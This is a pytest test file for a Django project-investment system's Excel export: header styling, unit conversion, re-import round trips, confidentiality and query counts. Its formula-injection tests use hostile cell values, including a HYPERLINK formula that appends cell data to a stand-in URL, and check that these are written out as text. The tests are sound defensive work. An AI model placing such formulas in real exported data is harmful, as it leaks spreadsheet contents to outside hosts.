"""projects.exports: what the user may see, styled, documented, and importable again."""

from __future__ import annotations

import io
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from parklink.accounts.models import User
from parklink.enterprises.services import create_enterprise
from parklink.parks.models import Park
from parklink.projects import services
from parklink.projects.exports import export_projects
from parklink.projects.imports import import_projects
from parklink.projects.models import Project
from parklink.projects.queries import ProjectFilters
from parklink.regions.models import Region
from tests.support.import_files import make_uscc

COMPARED = (
    "name",
    "code_name",
    "park_id",
    "region_id",
    "investor_id",
    "sector",
    "industry_code",
    "total_investment",
    "phase_investment",
    "capital_origin",
    "expected_annual_revenue",
    "expected_annual_tax",
    "jobs",
    "maturity",
    "lead_source",
    "lead_source_detail",
    "stage",
    "stage_since",
    "signed_on",
    "responsible_leader",
    "task_force",
    "mechanism",
    "description",
)


def snapshot(project: Project) -> tuple[Any, ...]:
    tags = tuple(sorted(project.tags.values_list("code", flat=True)))
    return (*(getattr(project, name) for name in COMPARED), tags)


@pytest.fixture
def library(users: dict[str, User], park: Park, today: date) -> dict[str, Project]:
    jinniu = users["jinniu"]
    investor = create_enterprise(
        jinniu,
        name="宁德储能科技有限公司",
        uscc=make_uscc(9),
        region=Region.objects.get(pk="510106"),
    )
    return {
        "signed": services.create_project(
            jinniu,
            name="储能电池项目",
            code_name="X-1",
            park=park,
            region_id="510106",
            investor=investor,
            sector="新能源",
            industry_code="3841",
            total_investment=Decimal("560000000.00"),
            phase_investment=Decimal("123456.78"),
            capital_origin="out_of_province",
            expected_annual_revenue=Decimal("1200000000"),
            expected_annual_tax=Decimal("12000000"),
            jobs=800,
            maturity="A",
            lead_source="business_referral",
            lead_source_detail="客商推荐",
            responsible_leader="张三",
            task_force="储能专班",
            mechanism="周调度",
            description="年产10GWh",
            stage="signed",
            stage_date=today - timedelta(days=30),
            tags=["key", "aid"],
        ),
        "lead": services.create_project(
            jinniu, name="保密线索", region_id="510106", stage="lead", stage_date=today
        ),
    }


def sheet_rows(data: bytes) -> list[tuple[Any, ...]]:
    book = load_workbook(io.BytesIO(data), read_only=True)
    return list(book["项目"].iter_rows(values_only=True))


class TestExportProjects:
    def test_header_is_bold_and_frozen_and_notes_state_the_filters(
        self, users: dict[str, User], library: dict[str, Project]
    ) -> None:
        data = export_projects(users["jinniu"], ProjectFilters(stage=["signed"]))
        book = load_workbook(io.BytesIO(data))
        assert book.sheetnames == ["项目", "说明"]
        sheet = book["项目"]
        assert sheet["A1"].value == "项目名称" and sheet["A1"].font.bold
        assert sheet.freeze_panes == "A2"
        assert sheet.column_dimensions["A"].width == 32
        assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == ["储能电池项目"]
        notes = {row[0]: row[1] for row in book["说明"].iter_rows(values_only=True)}
        assert notes["阶段"] == "签约"
        assert notes["项目数"] == 1
        assert "导出时间" in notes

    def test_amounts_are_numbers_in_wan_yuan(
        self, users: dict[str, User], library: dict[str, Project]
    ) -> None:
        header, *rows = sheet_rows(
            export_projects(users["jinniu"], ProjectFilters(stage=["signed"]))
        )
        cells = dict(zip(header, rows[0], strict=True))
        assert cells["总投资(万元)"] == 56000
        assert cells["一期投资(万元)"] == pytest.approx(12.345678)

    def test_export_imports_into_another_organisation_as_the_same_projects(
        self, users: dict[str, User], library: dict[str, Project], tmp_path: Path
    ) -> None:
        path = tmp_path / "export.xlsx"
        path.write_bytes(export_projects(users["jinniu"], ProjectFilters()))
        report = import_projects(users["qingbaijiang"], path)
        assert report.problems == [] and report.created == 2
        copies = Project.objects.filter(owner=users["qingbaijiang"].organization)
        assert sorted(map(snapshot, copies)) == sorted(map(snapshot, library.values()))

    def test_other_organisation_does_not_get_a_confidential_project(
        self, users: dict[str, User], library: dict[str, Project]
    ) -> None:
        city_names = [
            row[0] for row in sheet_rows(export_projects(users["city"], ProjectFilters()))[1:]
        ]
        assert city_names == ["储能电池项目"]
        assert sheet_rows(export_projects(users["qingbaijiang"], ProjectFilters()))[1:] == []

    def test_queries_do_not_grow_with_projects(
        self, users: dict[str, User], library: dict[str, Project], today: date
    ) -> None:
        with CaptureQueriesContext(connection) as few:
            export_projects(users["jinniu"], ProjectFilters())
        for number in range(8):
            services.create_project(
                users["jinniu"],
                name=f"项目{number}",
                region_id="510106",
                stage="signed",
                stage_date=today,
                tags=["key"],
            )
        with CaptureQueriesContext(connection) as many:
            export_projects(users["jinniu"], ProjectFilters())
        assert len(many) == len(few)

    def test_command_writes_the_filtered_file(
        self, users: dict[str, User], library: dict[str, Project], tmp_path: Path
    ) -> None:
        path = tmp_path / "out.xlsx"
        call_command(
            "export",
            "projects",
            str(path),
            "--as",
            "jinniu_officer",
            "--stage",
            "线索",
            stdout=io.StringIO(),
        )
        assert [row[0] for row in sheet_rows(path.read_bytes())[1:]] == ["保密线索"]


HOSTILE_NAME = '=HYPERLINK("http://x"&A1,"click")'
HOSTILE_SECTOR = "=1+1"


@pytest.fixture
def hostile(users: dict[str, User], today: date) -> Project:
    """A signed project whose name and sector a spreadsheet would read as formulas."""
    return services.create_project(
        users["jinniu"],
        name=HOSTILE_NAME,
        region_id="510106",
        sector=HOSTILE_SECTOR,
        responsible_leader="@SUM(1+1)",
        task_force="-2+3",
        mechanism="\t=1",
        stage="signed",
        stage_date=today,
    )


def hostile_cells(data: bytes) -> dict[str, Any]:
    """The hostile project's cells by header, as openpyxl reads them back (type included)."""
    sheet = load_workbook(io.BytesIO(data))["项目"]
    header = [cell.value for cell in sheet[1]]
    [row] = [row for row in sheet.iter_rows(min_row=2) if row[0].value == HOSTILE_NAME]
    return dict(zip(header, row, strict=True))


class TestFormulaInjection:
    def assert_text(self, data: bytes) -> None:
        cells = hostile_cells(data)
        expected = {
            "项目名称": HOSTILE_NAME,
            "产业领域": HOSTILE_SECTOR,
            "责任领导": "@SUM(1+1)",
            "工作专班": "-2+3",
            "推进机制": "\t=1",
        }
        for header, value in expected.items():
            assert cells[header].data_type == "s", header
            assert cells[header].value == value
            assert cells[header].quotePrefix, header

    def test_export_function_writes_formula_like_text_as_text(
        self, users: dict[str, User], hostile: Project
    ) -> None:
        self.assert_text(export_projects(users["jinniu"], ProjectFilters()))

    def test_another_organisation_that_sees_the_project_gets_text(
        self, users: dict[str, User], hostile: Project
    ) -> None:
        self.assert_text(export_projects(users["city"], ProjectFilters()))

    def test_page_export_writes_text(self, users: dict[str, User], hostile: Project) -> None:
        from django.test import Client
        from django.urls import reverse

        client = Client()
        client.force_login(users["city"])
        response = client.get(reverse("projects:export"))
        assert response.status_code == 200
        self.assert_text(response.content)

    def test_command_export_writes_text(
        self, users: dict[str, User], hostile: Project, tmp_path: Path
    ) -> None:
        path = tmp_path / "out.xlsx"
        call_command(
            "export", "projects", str(path), "--as", "jinniu_officer", stdout=io.StringIO()
        )
        self.assert_text(path.read_bytes())

    def test_filter_text_in_the_notes_sheet_is_text(
        self, users: dict[str, User], hostile: Project
    ) -> None:
        data = export_projects(users["jinniu"], ProjectFilters(sector=HOSTILE_SECTOR))
        notes = load_workbook(io.BytesIO(data))["说明"]
        [value] = [row[1] for row in notes.iter_rows() if row[0].value == "产业领域"]
        assert value.data_type == "s" and value.value == HOSTILE_SECTOR
